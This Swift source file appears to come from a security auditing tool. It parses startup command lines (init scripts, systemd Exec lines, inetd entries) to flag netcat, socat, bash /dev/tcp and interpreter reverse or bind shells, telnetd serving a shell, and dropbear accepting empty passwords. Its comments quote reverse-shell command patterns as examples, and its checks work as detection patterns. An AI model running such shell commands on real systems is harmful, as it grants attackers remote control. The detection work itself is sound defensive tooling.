/// Reads shell-like command lines (init scripts, inittab actions, unit `Exec` lines, inetd
/// server arguments) for remote-access programs started with dangerous options. Pure text
/// processing: nothing runs.
enum StartupCommand {
    /// What one command line starts.
    enum Launch: Hashable {
        /// A network server or client hands a shell to whoever connects, with no login.
        case networkShell(String)
        /// A remote-login server told to accept empty passwords.
        case acceptsEmptyPasswords(String)
        /// A remote-login server that asks for root's password (telnetd with login, dropbear
        /// without `-w`/`-g`); `allowsEmpty` when it accepts empty ones too.
        case passwordLogin(server: String, allowsEmpty: Bool)
    }

    static let shells: Set<String> = ["sh", "bash", "ash", "dash", "zsh", "ksh", "mksh", "hush", "csh", "tcsh", "rbash"]
    static let telnetServers: Set<String> = ["telnetd", "utelnetd", "in.telnetd", "telnetd.busybox"]
    static let netcats: Set<String> = ["nc", "netcat", "ncat", "nc.traditional", "nc.openbsd"]

    static func basename<S: StringProtocol>(_ word: S) -> String {
        let text = String(word)
        return text.split(separator: "/").last.map(String.init) ?? text
    }

    static func isShell<S: StringProtocol>(_ word: S) -> Bool { shells.contains(basename(word)) }

    /// Script interpreters whose one-liners (`-c`, `-e`, `-r`) can open a socket and run a shell.
    static func isInterpreter(_ name: String) -> Bool {
        ["python", "python2", "python3", "perl", "ruby", "php", "lua", "node"].contains(name)
            || name.hasPrefix("python3.") || name.hasPrefix("python2.") || name.hasPrefix("lua5.")
    }

    /// A one-liner that connects a socket and gives it a shell: it names a socket API and a
    /// shell (by path, `pty.spawn` or `sh -i`).
    static func isShellOnSocket(code: String) -> Bool {
        let lower = code.lowercased()
        let socket = lower.contains("socket") || lower.contains("fsockopen") || lower.contains("net.connect")
        let shell = lower.contains("/bin/sh") || lower.contains("/bin/bash") || lower.contains("pty.spawn") || lower.contains("sh -i")
            || lower.contains("\"sh\"") || lower.contains("'sh'")
        return socket && shell
    }

    /// Splits a line into commands (at `;`, `&`, `|`, `(`, `)`, backquotes) and each command
    /// into words, quotes removed. `variables` are expanded where a word is `$NAME` or `${NAME}`.
    /// An `&` that makes a redirection (`2>&1`, `<&5`, `>&`, `&>`) stays in its word.
    static func pipelines(_ line: String, variables: [String: String] = [:]) -> [[String]] {
        var commands: [[String]] = [[]]
        var word = ""
        var quote: Character?
        func endWord() {
            guard !word.isEmpty else { return }
            if let value = expansion(of: word, in: variables) {
                commands[commands.count - 1] += value.split(whereSeparator: { $0 == " " || $0 == "\t" }).map(String.init)
            } else {
                commands[commands.count - 1].append(word)
            }
            word = ""
        }
        let characters = Array(line)
        for (index, character) in characters.enumerated() {
            if let open = quote {
                if character == open { quote = nil } else { word.append(character) }
                continue
            }
            switch character {
            case "\"", "'": quote = character
            case " ", "\t", "\r": endWord()
            case "&" where word.hasSuffix(">") || word.hasSuffix("<") || (index + 1 < characters.count && characters[index + 1] == ">"):
                word.append(character)
            case ";", "&", "|", "(", ")", "`":
                endWord()
                if !(commands.last?.isEmpty ?? true) { commands.append([]) }
            case "#" where word.isEmpty:
                endWord()
                return commands.filter { !$0.isEmpty }
            default: word.append(character)
            }
        }
        endWord()
        return commands.filter { !$0.isEmpty }
    }

    private static func expansion(of word: String, in variables: [String: String]) -> String? {
        guard word.hasPrefix("$"), !variables.isEmpty else { return nil }
        var name = word.dropFirst()
        if name.hasPrefix("{"), name.hasSuffix("}") { name = name.dropFirst().dropLast() }
        return variables[String(name)]
    }

    /// What the commands of one line start. A pipeline counts as a whole for netcat feeding a
    /// shell (`cat f | /bin/sh -i | nc -l -p 23 > f`), and for a shell on a socket that bash
    /// opens itself: a line that redirects to `/dev/tcp/` or `/dev/udp/` and runs an interactive
    /// shell or one reading from a descriptor (`bash -i >& /dev/tcp/HOST/PORT 0>&1`,
    /// `exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5`). A shell's `-c` command is read the same way.
    static func launches(_ commands: [[String]], depth: Int = 0) -> [Launch] {
        var found: [Launch] = []
        let lineHasShellCommand = commands.contains { command in
            guard let program = program(of: command) else { return false }
            return isShell(command[program])
        }
        let lineOpensSocket = commands.contains { $0.contains { $0.contains("/dev/tcp/") || $0.contains("/dev/udp/") } }
        for command in commands {
            guard let index = program(of: command) else { continue }
            var program = Substring(command[index])
            if program.hasPrefix("Exec"), let equals = program.firstIndex(of: "=") {
                program = program[program.index(after: equals)...].drop { "@-:+!".contains($0) }
            }
            let name = basename(program)
            let arguments = Array(command[(index + 1)...]).filter { $0 != "--" }
            let text = command[index...].joined(separator: " ")
            if isShell(name) {
                let onSocket = arguments.contains { $0 == "-i" || $0.hasPrefix("<&") || $0.hasPrefix("0<&") }
                if lineOpensSocket, onSocket {
                    found.append(.networkShell(text))
                } else if depth == 0, let flag = arguments.firstIndex(of: "-c"), flag + 1 < arguments.count {
                    found += launches(pipelines(arguments[flag + 1]), depth: 1)
                }
            } else if isInterpreter(name) {
                if let flag = arguments.firstIndex(where: { $0 == "-c" || $0 == "-e" || $0 == "-r" || $0 == "-E" }), flag + 1 < arguments.count,
                   isShellOnSocket(code: arguments[(flag + 1)...].joined(separator: " ")) {
                    found.append(.networkShell(text))
                }
            } else if telnetServers.contains(name) {
                if let shell = loginProgram(arguments), isShell(shell) { found.append(.networkShell(text)) } else {
                    found.append(.passwordLogin(server: text, allowsEmpty: false))
                }
            } else if netcats.contains(name) {
                if executesShell(arguments) || (listens(arguments) && lineHasShellCommand) { found.append(.networkShell(text)) }
            } else if name == "socat" {
                let networked = arguments.contains { $0.uppercased().contains("LISTEN") || $0.uppercased().hasPrefix("TCP") || $0.uppercased().hasPrefix("UDP") }
                let shell = arguments.contains { argument in
                    let upper = argument.uppercased()
                    guard upper.hasPrefix("EXEC:") || upper.hasPrefix("SYSTEM:") else { return false }
                    return argument.dropFirst(upper.hasPrefix("EXEC:") ? 5 : 7).split(whereSeparator: { $0 == " " || $0 == "," || $0 == "!" }).contains { isShell($0) }
                }
                if networked, shell { found.append(.networkShell(text)) }
            } else if name == "dropbear" {
                let flags = arguments.filter { $0.count > 1 && $0.hasPrefix("-") && !$0.hasPrefix("--") && $0.dropFirst().allSatisfy(\.isLetter) }
                let blank = flags.contains { $0.contains("B") }
                // `-w` refuses root, `-g` refuses root's password, `-s` refuses passwords altogether.
                let noRootLogin = flags.contains { $0.contains("w") || $0.contains("g") || $0.contains("s") }
                if blank { found.append(.acceptsEmptyPasswords(text)) }
                if !noRootLogin { found.append(.passwordLogin(server: text, allowsEmpty: blank)) }
            }
        }
        return found
    }

    /// The index of the program a command runs: the first word that is not an assignment, a
    /// wrapper (`exec`, `nohup`, `busybox`, `start-stop-daemon … --exec`), a shell keyword that
    /// starts a command (`then`, `do`, `!`) or an option of one.
    static func program(of command: [String]) -> Int? {
        let wrappers: Set<String> = ["exec", "nohup", "busybox", "setsid", "nice", "env", "sudo", "chroot",
                                     "if", "then", "else", "elif", "while", "until", "do", "!", "{", "time"]
        var index = 0
        while index < command.count {
            let word = command[index]
            let name = basename(word)
            if word.contains("="), !word.hasPrefix("-"), !word.hasPrefix("/"), let equals = word.firstIndex(of: "=") {
                // A unit's `ExecStart=/usr/sbin/x` names the program; a shell assignment
                // (`FOO=bar cmd`) comes before it.
                if word[..<equals].hasPrefix("Exec") {
                    let value = word[word.index(after: equals)...].drop { "@-:+!".contains($0) }
                    if !value.isEmpty, !wrappers.contains(basename(value)) { return index }
                }
                index += 1
                continue
            }
            if name == "start-stop-daemon" {
                guard let exec = command.firstIndex(where: { $0 == "--exec" || $0 == "-x" || $0 == "--startas" || $0 == "-a" }), exec + 1 < command.count else { return nil }
                return exec + 1
            }
            if wrappers.contains(name) || word.hasPrefix("-") { index += 1; continue }
            return index
        }
        return nil
    }

    /// The program given to telnetd's `-l` (busybox, utelnetd) or `-L` (netkit, inetutils), as
    /// `-l /bin/sh` or `-l/bin/sh`.
    static func loginProgram(_ arguments: [String]) -> String? {
        for (index, argument) in arguments.enumerated() {
            if argument == "-l" || argument == "-L" || argument == "--exec-login", index + 1 < arguments.count { return arguments[index + 1] }
            if argument.hasPrefix("-l") || argument.hasPrefix("-L"), argument.count > 2 { return String(argument.dropFirst(2)) }
            if argument.hasPrefix("--exec-login=") { return String(argument.dropFirst(13)) }
        }
        return nil
    }

    static func listens(_ arguments: [String]) -> Bool {
        arguments.contains { $0 == "--listen" || ($0.hasPrefix("-") && !$0.hasPrefix("--") && $0.dropFirst().allSatisfy(\.isLetter) && $0.contains("l")) }
    }

    /// `-e /bin/sh`, `-e/bin/sh`, `-c 'sh -i'`, `--exec`, `--sh-exec` (also inside `-lvpe`).
    static func executesShell(_ arguments: [String]) -> Bool {
        for (index, argument) in arguments.enumerated() {
            let takesNext = argument == "--exec" || argument == "--sh-exec" || argument == "--lua-exec"
                || (argument.hasPrefix("-") && !argument.hasPrefix("--") && argument.dropFirst().allSatisfy(\.isLetter)
                    && (argument.hasSuffix("e") || argument.hasSuffix("c")))
            if takesNext, index + 1 < arguments.count {
                if arguments[index + 1].split(separator: " ").contains(where: { isShell($0) }) { return true }
            } else if argument.hasPrefix("-e") || argument.hasPrefix("-c"), argument.count > 2, isShell(argument.dropFirst(2)) {
                return true
            }
        }
        return false
    }
}
